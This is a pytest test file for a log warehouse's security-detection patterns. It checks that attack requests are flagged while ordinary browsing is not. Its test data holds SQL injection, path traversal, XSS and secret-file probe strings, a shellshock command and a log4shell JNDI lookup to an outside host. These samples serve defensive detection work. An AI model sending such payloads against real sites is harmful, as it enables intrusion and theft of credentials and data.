"""Security patterns on a table of requests: attacks are caught, ordinary browsing is not."""

from __future__ import annotations

import re
from datetime import timedelta

import duckdb
import pytest

from golkepar.config import Settings
from golkepar.warehouse.build import build_warehouse
from golkepar.warehouse.patterns import PATTERN_KINDS, SECURITY_KINDS, SecurityPattern
from lake_factory import CHROME, Hit, write_lake
from traffic import INNOCENT_REQUESTS, T0
from warehouse_helpers import DOCS

# (path, query, status, expected kinds). Each request comes from its own address.
CASES: list[tuple[str, str | None, int, set[str]]] = [
    *((path, query, 200, set()) for path, query in INNOCENT_REQUESTS),
    ("/blog/union-station-review", "page=2", 200, set()),
    ("/search", "q=1+%3D+1+and+other+maths", 200, set()),
    ("/admin-guide", None, 200, set()),
    ("/administrator/", None, 302, set()),  # exists and asks for a login: not a probe
    ("/wp-login.php", None, 200, set()),
    ("/download/release-2.1.tar.gz", None, 200, set()),
    ("/.env", None, 404, {"secret_file_probe"}),
    ("/.env.production", None, 403, {"secret_file_probe"}),
    ("/app/.git/HEAD", None, 404, {"secret_file_probe"}),
    ("/wp-config.php~", None, 404, {"secret_file_probe"}),
    ("/wp-config.php.save", None, 404, {"secret_file_probe"}),
    ("/backup.tar.gz", None, 404, {"secret_file_probe"}),
    ("/www.zip", None, 404, {"secret_file_probe"}),
    ("/dump.sql", None, 404, {"secret_file_probe"}),
    ("/info.php", None, 404, {"secret_file_probe"}),
    ("/server-status", None, 403, {"secret_file_probe"}),
    ("/%2e%65nv", None, 404, {"secret_file_probe"}),  # /.env, percent-encoded
    ("/phpMyAdmin-5.2.1/", None, 404, {"admin_probe"}),
    ("/myadmin/scripts/setup.php", None, 404, {"admin_probe"}),
    ("/adminer-4.8.1.php", None, 404, {"admin_probe"}),
    ("/manager/html", None, 404, {"admin_probe"}),
    ("/wp-admin/setup-config.php", None, 404, {"admin_probe"}),
    ("/item", "id=1+UNION+SELECT+1,2,3", 200, {"sql_injection"}),
    ("/item", "id=1%20union/**/select%20password", 200, {"sql_injection"}),
    ("/item", "id=(SELECT+1+FROM+DUAL)", 200, {"sql_injection"}),
    ("/item", "id=1%27+AND+SLEEP(5)--+-", 200, {"sql_injection"}),
    ("/item", "name=admin%27--", 200, {"sql_injection"}),
    ("/item", "id=1;DROP+TABLE+users", 200, {"sql_injection"}),
    ("/item", "id=1+AND+extractvalue(1,concat(0x7e,version()))", 200, {"sql_injection"}),
    ("/item", "q=x%22+or+%22a%22=%22a", 200, {"sql_injection"}),
    ("/item", "id=1+or+1=1", 200, {"sql_injection"}),
    (
        "/item",
        "id=-1+union+all+select+table_name+from+information_schema.tables",
        200,
        {"sql_injection"},
    ),
    ("/page", "file=../../../../etc/passwd", 200, {"path_traversal"}),
    ("/page", "file=..%252f..%252fetc%252fhosts", 200, {"path_traversal"}),
    ("/page", "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", 200, {"path_traversal"}),
    (
        "/page",
        "file=php://filter/convert.base64-encode/resource=index.php",
        200,
        {"path_traversal"},
    ),
    ("/page", "file=C:%5CWindows%5Cwin.ini", 200, {"path_traversal"}),
    ("/cgi-bin/..%2f..%2f..%2fbin/sh", None, 400, {"path_traversal", "admin_probe"}),
    ("/search", "q=%3Cscript%3Edocument.cookie%3C/script%3E", 200, {"xss_attempt"}),
    ("/search", "q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E", 200, {"xss_attempt"}),
    ("/search", "url=javascript:alert(document.domain)", 200, {"xss_attempt"}),
    ("/search", "q=%253Csvg%2520onload%253Dprompt%25281%2529%253E", 200, {"xss_attempt"}),
]


@pytest.fixture(scope="module")
def events(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    """Kinds raised per client address, for a lake holding one request per case."""
    tmp = tmp_path_factory.mktemp("patterns")
    hits = [
        Hit(
            T0 + timedelta(seconds=i),
            ip=f"10.0.{i // 250}.{i % 250}",
            user_agent=CHROME,
            path=path,
            query=query,
            status=status,
        )
        for i, (path, query, status, _) in enumerate(CASES)
    ]
    write_lake(tmp / "lake", hits)
    settings = Settings(
        parquet_path_base=tmp / "lake", duckdb_file=tmp / "w.duckdb", ip_path_base=tmp / "geoip"
    )
    build_warehouse(settings)
    found: dict[str, set[str]] = {}
    with duckdb.connect(str(settings.duckdb_file), read_only=True) as con:
        for ip, kind in con.execute("SELECT ip, kind FROM security_events").fetchall():
            found.setdefault(ip, set()).add(kind)
    return found


@pytest.mark.parametrize(
    ("index", "case"), list(enumerate(CASES)), ids=[f"{c[0]}?{c[1]}" for c in CASES]
)
def test_request_raises_exactly_its_kinds(
    events: dict[str, set[str]], index: int, case: tuple[str, str | None, int, set[str]]
) -> None:
    ip = f"10.0.{index // 250}.{index % 250}"
    assert events.get(ip, set()) == case[3]


# For each pattern kind, a string it must match and a close one it must not, as the pattern sees
# them (decoded path, decoded request or User-Agent).
SAMPLES: dict[str, tuple[str, str]] = {
    "secret_file_probe": ("/.env", "/environment"),
    "admin_probe": ("/phpmyadmin/index.php", "/blog/admin-tips"),
    "sql_injection": ("/item?id=1 UNION SELECT password", "/search?q=union station"),
    "path_traversal": ("/page?file=../../etc/passwd", "/page?file=notes.txt"),
    "xss_attempt": ("/search?q=<script>alert(1)</script>", "/search?q=script writing"),
    "scanner_user_agent": ("sqlmap/1.7.2#stable (https://sqlmap.org)", CHROME),
    "shellshock": ("() { :; }; /bin/bash -c id", "/search?q=function() { }"),
    "log4shell": ("${jndi:ldap://198.51.100.66/a}", "/docs?q=${HOME}/bin"),
}


def test_every_pattern_kind_has_samples() -> None:
    assert set(SAMPLES) == {pattern.kind for pattern in PATTERN_KINDS}


@pytest.mark.parametrize("pattern", PATTERN_KINDS, ids=lambda p: p.kind)
def test_every_pattern_compiles_in_duckdb_and_tells_its_samples_apart(
    pattern: SecurityPattern,
) -> None:
    positive, negative = SAMPLES[pattern.kind]
    with duckdb.connect() as con:
        matches = con.execute(
            "SELECT regexp_matches(?, ?), regexp_matches(?, ?)",
            [positive, pattern.regex, negative, pattern.regex],
        ).fetchall()
    assert matches == [(True, False)]


def documented_kinds() -> dict[str, str]:
    """The rows of docs/warehouse.md's "Security kinds" table: kind -> what raises it."""
    rows: dict[str, str] = {}
    section = DOCS.read_text().split("## Security kinds", 1)[1].split("\n## ", 1)[0]
    for line in section.splitlines():
        row = re.match(r"\| `(\w+)` \| ([^|]+) \|", line)
        if row:
            rows[row.group(1)] = row.group(2).strip()
    return rows


def test_every_security_kind_has_its_own_documented_row() -> None:
    documented = documented_kinds()
    assert set(documented) == set(SECURITY_KINDS)
    assert all(len(raised_by) > 20 for raised_by in documented.values()), documented
